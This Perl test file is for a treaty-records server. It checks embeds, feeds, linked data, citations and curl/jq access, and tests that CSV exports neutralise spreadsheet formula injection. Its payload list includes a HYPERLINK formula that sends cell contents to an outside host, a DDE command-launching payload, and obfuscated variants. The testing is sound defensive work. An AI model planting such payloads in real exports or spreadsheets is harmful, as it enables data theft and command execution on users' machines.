# Answers of a running server in the hands of readers of other people's: a page
# is embedded by what it says of itself, feeds, linked data, citations and
# tables are fetched and read. Needs the packages of tests/node, curl and jq.
use strict;
use warnings;
use utf8;
use JSON::PP;
use Test::More;
use TreatyBodies;
use TreatyConfig;
use TreatyFixture;
use TreatyHttpd;
use TreatyNode;

# Where the server is, absolute addresses are those of the server.
my $ORIGIN = "TreatyBase /ref http://127.0.0.1:\@PORT\@\n"
    . "TreatyQueryTimeout 30s\n";

# What a spreadsheet would run; what looks like one of these in another width,
# behind blanks, or in the second cell of a text that breaks its quotes.
my @RUNS = ('=1+1', '=HYPERLINK("https://x.example?"&A1,"y")', '+1', '-1+2',
    '@SUM(A1)', "\t=1", " =1", "\r=1", "\n=1", 'a","=1', "a\r\n=1", "a;=1",
    "\x{ff1d}1", "'=1", '=cmd|\' /C calc\'!A0', '"=1"', '""=1');

sub content_of {
    my ($httpd, $path) = @_;
    my $answer = $httpd->get($path);

    is $answer->{status}, 200, "$path is there";
    return $answer->{content};
}

sub embedded {
    my ($httpd) = @_;
    my %title = ('treaties/opsc' => qr/^Optional Protocol on the Sale/,
        'treaties/opsc@2002-12-24' => qr/^Optional Protocol on the Sale/,
        'fact-sheets/2002-12-24-opsc' => qr/./);

    for my $path (sort keys %title) {
        my $read  = node_json('oembed.js', '', $httpd->url("/ref/$path"));
        my $found = $read->{found};

        ok !$read->{known}, "$path: it had to be looked for";
        is $found->{method}, 'auto-discovery', 'and the page says where';
        is $found->{type}, 'rich', 'it is rich';
        like $found->{title}, $title{$path}, 'with its title';
        cmp_ok $found->{width}, '<=', 480, 'no wider than there is room';
        cmp_ok $found->{height}, '<=', 320, 'nor higher';
        my ($frame) = $found->{html} =~ /<iframe [^>]*src="([^"]*)"/;
        my $html = $found->{html};
        utf8::encode($html);
        is body_fault('text/html; charset=utf-8', $html), '', 'its HTML is well-formed';
        my $host = $httpd->url;
        ok $frame =~ s/\A\Q$host\E//, 'and has a frame of this server';
        like content_of($httpd, $frame), qr/<html/, 'which is a page';
    }
    return;
}

sub feeds {
    my ($httpd) = @_;

    for my $path ('acts', 'treaties/opsc/acts') {
        my $url  = $httpd->url("/ref/$path.atom");
        my $list = $httpd->json("/ref/$path.json");
        my $read = node_json('feed.js', content_of($httpd, "/ref/$path.atom"),
            $url);
        my ($rss, $other) = @$read{qw(rss feedparser)};

        ok length $rss->{title}, "$path: rss-parser has a title";
        is $other->{self}, $url, 'feedparser has where it is';
        cmp_ok scalar @{ $rss->{items} }, '>', 10, 'it has entries';
        is scalar @{ $other->{items} }, scalar @{ $rss->{items} },
            'feedparser has them, too';
        my %ids = map { $_->{id} => 1 } @{ $rss->{items} };
        is scalar keys %ids, scalar @{ $rss->{items} }, 'each with its own id';
        ok !(grep { !length($_->{title} // '') } @{ $rss->{items} }),
            'and a title';
        like $rss->{items}[0]{first}, qr/\A\Q$list->{items}[0]{deposited_on}\E/,
            'the newest act is the first of the list';
        my ($link) = $other->{items}[0]{link} =~ m{\Ahttp://127[^/]*(/.*)};
        content_of($httpd, $link =~ s/#.*//r);
    }
    return;
}

sub linked_data {
    my ($httpd) = @_;
    my @paths = map {"/ref/$_.jsonld"} 'treaties/opsc', 'treaties/crc',
        'treaties/opsc@2002-12-24', 'fact-sheets/2002-12-24-opsc';
    my @read = node_list('linked_data.js', map {
        { text => content_of($httpd, $_), base => $httpd->url($_) }
    } @paths);

    for my $i (0 .. $#paths) {
        my $id = $httpd->url($paths[$i] =~ s/\.jsonld\z//r);
        like $read[$i]{quads}, qr{^<\Q$id\E> <https://schema\.org/}m,
            "$paths[$i] tells of the page that it belongs to";
        my $host = $httpd->url;
        unlike $read[$i]{quads}, qr{<(?!https?://|_:)[^>]*>},
            'by absolute addresses';
        like $read[$i]{quads}, qr{\Q$host\E}, 'of this server';
    }
    return;
}

sub citations {
    my ($httpd) = @_;
    my %type = (bib => '@biblatex/text', ris => '@ris/file',
        json => '@else/json');
    my $title = $httpd->json('/ref/treaties/opsc.json')->{title};
    my @forms = sort keys %type;
    my @read  = node_list('citation.js', map {
        { text => content_of($httpd, "/ref/treaties/opsc/citation.$_"),
            style => 'apa' }
    } @forms);

    for my $i (0 .. $#forms) {
        is $read[$i]{type}, $type{ $forms[$i] }, "it is $forms[$i]";
        is $read[$i]{items}[0]{title}, $title, 'of the treaty';
        is $read[$i]{items}[0]{URL}, $httpd->url('/ref/treaties/opsc'),
            'whose page it names';
        like $read[$i]{bibliography}, qr/\Q$title\E/i, 'and a bibliography has';
    }
    return;
}

# By a shell, as people do it.
sub command_line {
    my ($httpd) = @_;

  SKIP: {
        my @missing = grep { !TreatyConfig::program($_) } qw(curl jq);
        skip "no @missing", 1 if @missing;
        my %asked = (
            'treaties.json'      => '.items | length == 6',
            'treaties/opsc.json' => '.counts.signatures > 100',
            'treaties/opsc@2002-12-24.json' => '.counts.signatures == 105',
            'search.json?q=children' => '.items[0].snippet | length > 0',
            'openapi.json'       => '.openapi | startswith("3.1")',
            'acts.json?limit=3'  => '[.items[].id] | unique | length == 3',
            'treaties/none.json' => '.status == 404',
        );
        for my $path (sort keys %asked) {
            my $url = $httpd->url("/ref/$path");
            my $said = qx(curl -sS --compressed '$url' | jq -e '$asked{$path}');
            is $said, "true\n", "curl --compressed, jq: $path: $asked{$path}";
        }
        my $url = $httpd->url('/ref/treaties.csv');
        is qx(curl -sS --compressed '$url'), content_of($httpd, '/ref/treaties.csv'),
            'a table comes whole, too';
    }
    return;
}

my $why = node_lacks(qw(@extractus/oembed-extractor rss-parser feedparser
    jsonld @citation-js/core));

for_each_mpm {
    my ($httpd) = @_;

  SKIP: {
        skip $why, 1 if $why;
        embedded($httpd);
        feeds($httpd);
        linked_data($httpd);
        citations($httpd);
    }
    command_line($httpd);
} config => $ORIGIN;

# Every text of a record that can stand in a table.
sub hostile_record {
    my $number = 0;
    my @treaties = map {
        my $text = $_;
        $number++;
        members(id => "t$number", mtdsg_no => $text, type => 'treaty',
            titles => [members(kind => 'official', title => $text),
                members(kind => 'short', title => $text)],
            depositary => $text, subjects => [$text, "a; $text"],
            columns => [$text],
            acts => [members(participant => "p$number", kind => 'ratification',
                deposited_on => '2001-01-01', column => $text, raw => $text,
                note => $text)])
    } @RUNS;
    $number = 0;
    return members(
        participants => [map {
            $number++;
            members(id => "p$number", kind => 'state',
                names => [members(name => $_)])
        } @RUNS],
        treaties => \@treaties,
    );
}

# What a spreadsheet makes of a cell: blanks at its start are nothing to it.
sub runs { return $_[0] =~ /\A[\s\x{a0}]*[=+\-\@\x{ff1d}\x{ff0b}\x{ff0d}\x{ff20}]/ }

for_each_mpm {
    my ($httpd) = @_;

    for my $path ('treaties', 'acts', 'treaties/t1/acts',
        'treaties/t1/participants', 'participants', 'participants/p1/acts',
        'participants/p1/treaties')
    {
        my $answer = $httpd->get("/ref/$path.csv");
        my $text   = $answer->{content};
        utf8::decode($text);
        my $rows = csv_rows($text) // [];

        is $answer->{status}, 200, "/ref/$path.csv is there" or next;
        like $answer->{headers}{'content-type'}, qr{\Atext/csv},
            'and is a table';
        is scalar(grep { @$_ != @{ $rows->[0] } } @$rows), 0,
            'whose rows are as wide as its head';
        cmp_ok scalar @$rows, '>', 1, 'and which are there';
        my @live = grep { runs($_) } map {@$_} @$rows;
        is_deeply \@live, [], 'no cell can run';
        my @bare = map { /\A"/ ? () : $_ }
            $text =~ /("(?:[^"]|"")*"|[^,"\r\n]+)(?:,|\r\n)/g;
        is_deeply [grep { /[;\t]/ } @bare], [],
            'nor can a part of one, for a reader that takes ; for the end';
    }
} database => published('runs.db', hostile_record()),
    config => "TreatyQueryTimeout 30s\n";
done_testing;
